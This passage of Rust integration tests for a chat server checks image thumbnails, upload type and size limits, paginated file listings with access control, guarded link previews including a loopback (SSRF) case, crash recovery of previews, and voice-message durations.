        let img = decode(&bytes);
        if img.width() == 64 {
            assert_eq!(img.height(), 64);
            break;
        }
        assert!(Instant::now() < deadline, "square thumbnails within 30 s");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // Too large (5 MB), or not a raster image: refused, the profile unchanged.
    let big = samples::noise_png(1400, 1400);
    assert!(big.len() > 5 * 1024 * 1024);
    assert_eq!(post_raw(&server, "/api/profile-images", &u.token, big), 413);
    let (status, _, _) = http(
        &server,
        "POST",
        "/api/profile-images",
        &[("authorization", &auth)],
        samples::SVG.as_bytes().to_vec(),
    )
    .await;
    assert_eq!(status, 415);
    let (status, _, _) = http(
        &server,
        "POST",
        "/api/profile-images",
        &[("authorization", &auth)],
        samples::wav(100),
    )
    .await;
    assert_eq!(status, 415);
}

#[actix_rt::test]
async fn listings_by_room_kind_and_hashtag_page_without_gaps() {
    let server = Server::start();
    let api = rest(&server);
    let [a, b] = api.register_all(["list-a", "list-b"]).await;
    let room = api.group(&a, &[&b]).await;
    for i in 0..7 {
        upload_ok(
            &server,
            &a,
            &format!("?filename={i}.png&room_id={room}&hashtags=trip,day{i}"),
            samples::png(2, 2),
        )
        .await;
    }
    upload_ok(
        &server,
        &a,
        &format!("?filename=x.txt&room_id={room}&hashtags=trip"),
        b"text".to_vec(),
    )
    .await;
    upload_ok(
        &server,
        &a,
        "?filename=private.txt&hashtags=trip",
        b"mine".to_vec(),
    )
    .await;
    // b sees the room's files, not a's private one; pages of 3 with no duplicates.
    let mut seen = Vec::new();
    let mut cursor = String::new();
    for _ in 0..10 {
        let (status, body) = api
            .get(
                &format!("/api/files?hashtag=trip&limit=3{cursor}"),
                &b.token,
            )
            .await;
        assert_eq!(status, 200, "{body}");
        for f in body["files"].as_array().unwrap() {
            seen.push(f["id"].as_str().unwrap().to_string());
        }
        match body["next_cursor"].as_str() {
            Some(c) => cursor = format!("&cursor={c}"),
            None => break,
        }
    }
    let mut unique = seen.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), seen.len(), "no duplicates");
    assert_eq!(seen.len(), 8, "every room file tagged #trip, none private");
    let (_, images) = api
        .get(
            &format!("/api/files?room_id={room}&kind=image&limit=100"),
            &b.token,
        )
        .await;
    assert_eq!(images["files"].as_array().unwrap().len(), 7);
    let (_, one) = api.get("/api/files?hashtag=day3", &b.token).await;
    assert_eq!(one["files"].as_array().unwrap().len(), 1);
    let (_, mine) = api.get("/api/files?hashtag=trip&limit=100", &a.token).await;
    assert_eq!(
        mine["files"].as_array().unwrap().len(),
        9,
        "the uploader sees all of theirs"
    );
    let c = api.register("list-c").await;
    assert_eq!(
        api.get(&format!("/api/files?room_id={room}"), &c.token)
            .await
            .0,
        403
    );
    assert_eq!(api.get("/api/files?kind=sculpture", &c.token).await.0, 400);
    // Uploading to a room one is not in is refused.
    assert_eq!(
        upload(&server, &c, &format!("?room_id={room}"), b"x".to_vec())
            .await
            .0,
        403
    );
}

#[actix_rt::test]
async fn link_previews_are_fetched_through_the_guard_and_proxied() {
    let site = standins::site::start();
    let server = Server::start_with(&[], &[("DOVIE_EGRESS__ALLOW_PRIVATE_ADDRESSES", "true")]);
    let api = rest(&server);
    let [a, b] = api.register_all(["link-a", "link-b"]).await;
    let room = api.group(&a, &[&b]).await;
    let mut wb = Ws::connect(&server, Codec::Json, Auth::Query(&b.token)).await;
    let m = api
        .send(&a, &room, &format!("read this {}", site.url("/article")))
        .await;
    assert!(m.get("link_previews").is_none() || m["link_previews"].as_array().unwrap().is_empty());
    wb.expect("new_message").await;
    let edited = wb.expect("message_edited").await;
    let p = &edited["d"]["message"]["link_previews"][0];
    assert_eq!(p["title"], "An article", "{edited}");
    assert_eq!(p["description"], "What it says");
    assert_eq!(p["site_name"], "Stand-in");
    assert_eq!(p["url"], site.url("/article"));
    // The image is Dovie's copy, not a hot link.
    let img = p["image_url"].as_str().unwrap();
    assert!(img.starts_with("/api/files/"), "{img}");
    let (status, bytes) = get_bytes(&server, img, None).await;
    assert_eq!(status, 200);
    decode(&bytes);
    // Cached: a second message with the link does not fetch the page again.
    let fetched = site
        .log
        .requests()
        .iter()
        .filter(|r| r.path == "/article")
        .count();
    api.send(&a, &room, &format!("again {}", site.url("/article")))
        .await;
    wb.expect("new_message").await;
    let again = wb.expect("message_edited").await;
    assert_eq!(
        again["d"]["message"]["link_previews"][0]["title"],
        "An article"
    );
    assert_eq!(
        site.log
            .requests()
            .iter()
            .filter(|r| r.path == "/article")
            .count(),
        fetched
    );
    let hist = api.history(&b, &room, "").await;
    assert_eq!(hist[0]["link_previews"][0]["title"], "An article");
}

#[actix_rt::test]
async fn a_link_to_a_loopback_address_gets_no_preview_by_default() {
    let site = standins::site::start();
    let server = Server::start();
    let api = rest(&server);
    let [a, b] = api.register_all(["ssrf-a", "ssrf-b"]).await;
    let room = api.group(&a, &[&b]).await;
    let mut wb = Ws::connect(&server, Codec::Json, Auth::Query(&b.token)).await;
    api.send(&a, &room, &format!("internal {}", site.url("/article")))
        .await;
    wb.expect("new_message").await;
    wb.expect_none("message_edited", Duration::from_secs(3))
        .await;
    assert!(site.log.requests().is_empty(), "the guard never connected");
    let hist = api.history(&b, &room, "").await;
    assert!(hist[0].get("link_previews").is_none(), "{}", hist[0]);
}

#[actix_rt::test]
async fn pending_previews_are_made_after_a_crash() {
    let mut server = Server::start_with(&[], &[("DOVIE_FILES__PREVIEW_WORKERS", "1")]);
    let api = rest(&server);
    let u = api.register("crash").await;
    let mut ids = Vec::new();
    for i in 0..6 {
        let f = upload_ok(
            &server,
            &u,
            &format!("?filename={i}.png"),
            samples::png(1500, 1500),
        )
        .await;
        ids.push(f["id"].as_str().unwrap().to_string());
    }
    server.kill();
    server.restart();
    let api = rest(&server);
    let (_, login) = api
        .call(
            "POST",
            "/api/auth/login",
            None,
            Some(json!({"email": u.email, "password": "correct horse"})),
        )
        .await;
    let u = User {
        token: login["access_token"].as_str().unwrap().to_string(),
        ..u
    };
    for id in &ids {
        let f = file_when_ready(&api, &u, id, None).await;
        assert_eq!(f["has_preview"], true, "{f}");
    }
}

#[actix_rt::test]
async fn voice_messages_in_every_audio_format_carry_their_duration() {
    if !samples::have_ffmpeg() {
        eprintln!("skipped: ffmpeg is not installed (scripts/test.sh installs it)");
        return;
    }
    let server = Server::start();
    let api = rest(&server);
    let [a, b] = api.register_all(["fmt-a", "fmt-b"]).await;
    let room = api.group(&a, &[&b]).await;
    let tone = ["-f", "lavfi", "-i", "sine=frequency=440:duration=3"];
    let cases: Vec<(&str, Vec<&str>, &str)> = vec![
        ("mp3", vec!["-c:a", "libmp3lame"], "audio/mpeg"),
        ("ogg", vec!["-c:a", "libvorbis"], "audio/ogg"),
        ("m4a", vec!["-c:a", "aac"], "audio/mp4"),
        ("wav", vec![], "audio/wav"),
    ];
    for (ext, codec, ct) in cases {
        let args: Vec<&str> = tone.iter().copied().chain(codec).collect();
        let audio = samples::ffmpeg_make(&args, ext);
        let status_body = {
            let auth = format!("Bearer {}", a.token);
            http(
                &server,
                "POST",
                &format!("/api/voice-messages?room_id={room}&filename=memo.{ext}"),
                &[("authorization", &auth)],
                audio,
            )
            .await
        };
        let body = json_of(&status_body.2);
        assert_eq!(status_body.0, 201, "{ext}: {body}");
        let att = &body["message"]["attachments"][0];
        assert_eq!(att["content_type"], ct, "{ext}");
        let ms = att["duration_ms"].as_u64().unwrap();
        assert!((2900..=3200).contains(&ms), "{ext}: {ms} ms");
    }
}

#[actix_rt::test]
async fn every_kind_has_its_own_limit() {
    let limits: [(&str, &str, u64); 5] = [
        ("IMAGE", "x.png", 3000),
        ("AUDIO", "x.wav", 4000),
        ("VIDEO", "x.mp4", 5000),
        ("DOCUMENT", "x.pdf", 6000),
        ("ARCHIVE", "x.zip", 7000),
    ];
    let env: Vec<(String, String)> = limits
        .iter()
        .map(|(k, _, n)| (format!("DOVIE_FILES__LIMITS__{k}"), n.to_string()))
        .collect();
    let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let server = Server::start_with(&[], &env);
    let api = rest(&server);
    let u = api.register("kinds").await;
    let sample = |name: &str| match name {
        "x.png" => samples::png(4, 4),
        "x.wav" => samples::wav(10),
        "x.mp4" => samples::mp4_like(10),
        "x.pdf" => samples::pdf(1, "t"),
        _ => samples::zip_archive(),
    };
    for (kind, name, limit) in limits {
        // Trailing bytes keep the signature: the sample padded to the limit, then one more.
        let mut at = sample(name);
        assert!((at.len() as u64) < limit, "{kind}: the sample fits");
        at.resize(limit as usize, b' ');
        let f = upload_ok(&server, &u, &format!("?filename={name}"), at.clone()).await;
        assert_eq!(f["size"], limit, "{kind} at its limit");
        at.push(b' ');
        let (status, body) = upload(&server, &u, &format!("?filename={name}"), at).await;
        assert_eq!(status, 413, "{kind} past its limit: {body}");
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains(&limit.to_string()),
            "{body}"
        );
    }
}
